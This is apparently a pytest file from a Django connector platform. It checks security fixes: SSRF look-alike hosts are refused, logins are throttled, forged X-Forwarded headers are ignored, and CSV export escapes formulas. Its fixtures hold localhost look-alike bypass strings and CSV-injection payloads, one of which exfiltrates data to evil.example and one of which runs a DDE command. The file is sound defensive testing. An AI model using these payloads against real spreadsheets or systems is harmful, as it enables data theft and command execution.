"""Issue 19 at the pages: what an admin (or an attacker) sees for each case the outside probe
found. Forms and diagnostics refuse invalid and local host names in words (cases 1 and 3), a
view that fails leaves nothing half done (1), logins are throttled per account and per address
(4), X-Forwarded-* are believed only behind a declared proxy (6), and the log's CSV never
carries a live spreadsheet formula (7)."""

import csv
import io
import logging
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from audit.models import AuditEvent
from connectors import views as connector_views
from connectors.models import Connector
from connectors.wordpress import guard
from diagnostics import services as diagnostics_services
from diagnostics.models import ConnectionTest
from syncjobs.models import SyncJob, SyncLogEntry
from tests.conftest import PASSWORD, make_connector
from tests.diagnostics.conftest import run_test, steps_by_key

ROOT = Path(__file__).resolve().parents[2]


def post_create(client, site_url):
    data = {
        "name": "Main site",
        "site_url": site_url,
        "api_key": "fresh-key-for-main-site-000111",
        "entity_types": ["article"],
        "frequency": "1h",
    }
    return client.post(reverse("connectors:create", args=["acme"]), data)


# --- 3. the forms normalise before checking ----------------------------------------------------

LOOK_ALIKES = [
    "http://localhost./",
    "http://LOCALHOST./",
    "http://localhost。/",
    "http://ｌｏｃａｌｈｏｓｔ/",
    "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/",
    "http://127。0。0。1/",
    "http://１２７.０.０.１/",
    "http://[fec0::1]/",
    "http://[2001::7f00:1]/",
]


@pytest.mark.parametrize("url", LOOK_ALIKES)
def test_the_create_form_refuses_local_look_alikes(alice_client, org_a, settings, url):
    settings.WORDPRESS_ALLOW_PRIVATE_HOSTS = False
    response = post_create(alice_client, url)
    assert response.status_code == 200
    assert "the platform does not connect to private or local networks" in response.text
    assert not Connector.objects.filter(organisation=org_a).exists()
    # The demo's and the tests' setting keeps letting them through.
    settings.WORDPRESS_ALLOW_PRIVATE_HOSTS = True
    assert post_create(alice_client, url).status_code == 302


def test_the_forms_refuse_names_the_hosts_file_maps_to_a_private_address(
    alice_client, org_a, connector_a, settings, tmp_path, monkeypatch
):
    settings.WORDPRESS_ALLOW_PRIVATE_HOSTS = False
    hosts = tmp_path / "hosts"
    hosts.write_text("10.1.2.3 intranet.corp wiki\n")
    monkeypatch.setattr(guard, "HOSTS_FILE", str(hosts))
    response = post_create(alice_client, "https://Intranet.corp./wp")
    assert "intranet.corp (10.1.2.3)" in response.text
    assert "private network address" in response.text
    settings_url = reverse("connectors:settings", args=["acme", connector_a.pk])
    response = alice_client.post(
        settings_url,
        {
            "name": connector_a.name,
            "site_url": "http://wiki",
            "frequency": "1h",
            "entity_types": ["article"],
            "conflict_policy": connector_a.conflict_policy,
            "sync_direction": connector_a.sync_direction,
        },
    )
    assert "wiki (10.1.2.3)" in response.text
    connector_a.refresh_from_db()
    assert connector_a.site_url == "https://wp.example.org"


@pytest.mark.parametrize("url", ["http://xn--a.example", "http://xn--localhost-/x"])
def test_the_form_refuses_invalid_idna_whatever_the_setting(alice_client, org_a, settings, url):
    settings.WORDPRESS_ALLOW_PRIVATE_HOSTS = True
    response = post_create(alice_client, url)
    assert response.status_code == 200
    assert "The host name is not valid" in response.text
    assert not Connector.objects.filter(organisation=org_a).exists()


# --- 1. diagnostics of a connector saved with such a name: words, never a 500 ----------------


def test_mapping_diagnostics_of_an_invalid_idna_site_answer_in_words(alice_client, org_a):
    connector = make_connector(org_a, site_url="http://xn--a.example")
    url = reverse("diagnostics:mapping", args=["acme", connector.pk])
    response = alice_client.get(url + "?entity_type=article")
    assert response.status_code == 200
    assert "The host name is not valid" in response.text


def test_mapping_diagnostics_that_crash_answer_in_words_with_a_logged_traceback(
    alice_client, connector_a, monkeypatch, caplog
):
    def broken_check(*args, **kwargs):
        raise KeyError("a bug nobody foresaw")

    monkeypatch.setattr(diagnostics_services, "check_mapping", broken_check)
    url = reverse("diagnostics:mapping", args=["acme", connector_a.pk])
    with caplog.at_level(logging.ERROR, logger="diagnostics.services"):
        response = alice_client.get(url + "?entity_type=article")
    assert response.status_code == 200
    assert "stopped on an unexpected error (KeyError)" in response.text
    assert "Nothing was written" in response.text
    assert any(record.exc_info for record in caplog.records if "crashed" in record.getMessage())


def test_the_connection_test_of_an_invalid_idna_site_fails_step_one_in_words(org_a):
    connector = make_connector(org_a, site_url="http://xn--localhost-/x")
    test = run_test(connector)
    step = steps_by_key(test)["reachable"]
    assert step["status"] == "fail"
    assert "The host name is not valid" in step["message"]
    assert "could not run" not in step["message"]
    assert test.status == ConnectionTest.Status.FAILED


def test_a_view_that_fails_half_way_changes_nothing_and_says_so(alice, connector_a, monkeypatch):
    def broken_redirect(*args, **kwargs):
        raise RuntimeError("failure after the write")

    monkeypatch.setattr(connector_views, "redirect", broken_redirect)
    client = Client(raise_request_exception=False)
    client.force_login(alice)
    response = client.post(reverse("connectors:pause", args=["acme", connector_a.pk]))
    assert response.status_code == 500
    assert "Something went wrong on our side" in response.text
    assert "Nothing was changed" in response.text
    connector_a.refresh_from_db()
    assert connector_a.status != Connector.Status.PAUSED
    assert not AuditEvent.objects.filter(connector=connector_a, action="PAUSED").exists()


# --- 4. login throttling -------------------------------------------------------------------


def login(username, password, address="10.0.0.1", **headers):
    client = Client(REMOTE_ADDR=address, **headers)
    response = client.post(reverse("login"), {"username": username, "password": password})
    return response, client


def test_an_account_is_locked_after_five_failures_and_others_are_not(alice, bob):
    from axes.models import AccessFailureLog

    for _ in range(4):
        response, _client = login("alice", "wrong password")
        assert response.status_code == 200
        assert "Please enter a correct username and password" in response.text
    # The fifth failure locks the account at once.
    assert login("alice", "wrong password")[0].status_code == 429
    # Even the right password is refused now, with a clear message and status 429.
    response, client = login("alice", PASSWORD, address="10.0.0.2")
    assert response.status_code == 429
    assert "Too many failed logins" in response.text
    assert "try again in 15 minutes" in response.text
    assert "_auth_user_id" not in client.session
    # Bob, from another address, is not affected.
    response, client = login("bob", PASSWORD, address="10.0.0.3")
    assert response.status_code == 302
    assert client.session["_auth_user_id"] == str(bob.pk)
    # The audit trail: every failure, with the account and the address.
    failures = AccessFailureLog.objects.filter(username="alice")
    assert failures.filter(ip_address="10.0.0.1").count() == 5
    assert failures.filter(ip_address="10.0.0.2", locked_out=True).exists()


def test_an_address_is_locked_after_five_failures_over_any_accounts(alice, bob):
    for name in ("admin", "root", "test", "alice2", "support"):
        login(name, "guess", address="203.0.113.7")
    response, _client = login("bob", PASSWORD, address="203.0.113.7")
    assert response.status_code == 429
    # The same accounts log in from anywhere else.
    assert login("bob", PASSWORD, address="203.0.113.8")[0].status_code == 302
    assert login("alice", PASSWORD, address="203.0.113.8")[0].status_code == 302


def test_a_successful_login_forgets_earlier_typos(alice):
    for _ in range(4):
        login("alice", "typo")
    assert login("alice", PASSWORD)[0].status_code == 302
    for _ in range(4):
        login("alice", "typo")
    assert login("alice", PASSWORD)[0].status_code == 302


def test_a_platform_admin_unlocks_an_account_in_django_admin(alice, root_client):
    from axes.models import AccessAttempt, AccessFailureLog

    for _ in range(5):
        login("alice", "wrong")
    assert login("alice", PASSWORD, address="10.0.0.9")[0].status_code == 429
    changelist = reverse("admin:axes_accessattempt_changelist")
    page = root_client.get(changelist)
    assert page.status_code == 200
    assert "alice" in page.text
    attempts = list(AccessAttempt.objects.values_list("pk", flat=True))
    response = root_client.post(
        changelist,
        {"action": "delete_selected", "_selected_action": attempts, "post": "yes"},
    )
    assert response.status_code == 302
    trail = AccessFailureLog.objects.filter(username="alice").count()
    assert login("alice", PASSWORD, address="10.0.0.9")[0].status_code == 302
    # The failures stay in the audit trail after the unlock.
    assert AccessFailureLog.objects.filter(username="alice").count() == trail >= 5


def test_an_organisation_admin_cannot_unlock(alice_client):
    response = alice_client.get(reverse("admin:axes_accessattempt_changelist"))
    assert response.status_code == 302  # to the admin login: not staff


def test_an_overlong_username_is_a_form_error_not_a_crash(db):
    response, _client = login("x" * 5000, "whatever")
    assert response.status_code == 200
    assert "at most 150 characters" in response.text


# --- 6. X-Forwarded-* believed only behind a declared proxy ----------------------------------


def settings_in_subprocess(env_overrides: dict, expression: str) -> str:
    env = {key: value for key, value in os.environ.items() if key != "BEHIND_PROXY"}
    env.update({"DEBUG": "1", **env_overrides})
    code = f"from config import settings; print(repr({expression}))"
    out = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env=env, capture_output=True, text=True, check=True
    )
    return out.stdout.strip().splitlines()[-1]


def test_forwarded_proto_is_ignored_unless_behind_proxy_says_so():
    assert settings_in_subprocess({}, "settings.SECURE_PROXY_SSL_HEADER") == "None"
    assert settings_in_subprocess({"BEHIND_PROXY": "1"}, "settings.SECURE_PROXY_SSL_HEADER") == (
        "('HTTP_X_FORWARDED_PROTO', 'https')"
    )


def test_a_forged_forwarded_proto_does_not_pass_for_https(settings, db):
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_PROXY_SSL_HEADER = None
    settings.BEHIND_PROXY = False
    response = Client(HTTP_X_FORWARDED_PROTO="https").get(reverse("login"))
    assert response.status_code == 301
    assert response["Location"].startswith("https://")
    settings.BEHIND_PROXY = True
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    assert Client(HTTP_X_FORWARDED_PROTO="https").get(reverse("login")).status_code == 200


def test_a_forged_forwarded_for_does_not_dodge_the_address_lock(alice, settings):
    settings.BEHIND_PROXY = False
    for i in range(5):
        login(f"guess{i}", "x", address="198.51.100.4", HTTP_X_FORWARDED_FOR=f"192.0.2.{i}")
    response, _ = login(
        "alice", PASSWORD, address="198.51.100.4", HTTP_X_FORWARDED_FOR="192.0.2.99"
    )
    assert response.status_code == 429


def test_behind_a_proxy_the_address_it_appended_is_the_one_counted(alice, settings):
    settings.BEHIND_PROXY = True
    for i in range(5):
        # The client's own X-Forwarded-For entries come first; the proxy appends the peer.
        login(
            f"guess{i}", "x", address="10.0.0.254", HTTP_X_FORWARDED_FOR=f"6.6.6.{i}, 198.51.100.9"
        )
    locked, _ = login("alice", PASSWORD, address="10.0.0.254", HTTP_X_FORWARDED_FOR="198.51.100.9")
    assert locked.status_code == 429
    # Another client behind the same proxy is not locked out.
    other, _ = login("alice", PASSWORD, address="10.0.0.254", HTTP_X_FORWARDED_FOR="198.51.100.10")
    assert other.status_code == 302


def test_compose_and_env_example_default_to_no_proxy():
    compose = (ROOT / "docker-compose.yml").read_text()
    assert not re.search(r"^\s*BEHIND_PROXY:\s*\"?(1|true|yes|on)", compose, re.M | re.I)
    assert re.search(r"^BEHIND_PROXY=0$", (ROOT / ".env.example").read_text(), re.M)
    assert "`BEHIND_PROXY`" in (ROOT / "README.md").read_text()


# --- 7. CSV export never carries a live formula -------------------------------------------


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_start_a_formula_are_escaped(alice_client, connector_a):
    job = SyncJob.objects.create(
        connector=connector_a, status=SyncJob.Status.COMPLETED, kind="FULL"
    )
    for value in HOSTILE_CELLS:
        SyncLogEntry.objects.create(
            job=job,
            connector=connector_a,
            entity_type="article",
            external_id=value,
            operation="CREATE",
            status="FAILED",
            error=value,
        )
    SyncLogEntry.objects.create(
        job=job,
        connector=connector_a,
        entity_type="article",
        external_id="42",
        operation="CREATE",
        status="FAILED",
        error="article 42: a plain error, kept as it is",
    )
    url = reverse("syncjobs:log_csv", args=["acme", connector_a.pk, job.pk])
    response = alice_client.get(url)
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_error = {row[6]: row for row in rows[1:]}
    for value in HOSTILE_CELLS:
        row = by_error["'" + value]
        assert row[2] == "'" + value  # the external id too
    assert "article 42: a plain error, kept as it is" in by_error
    assert by_error["article 42: a plain error, kept as it is"][2] == "42"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
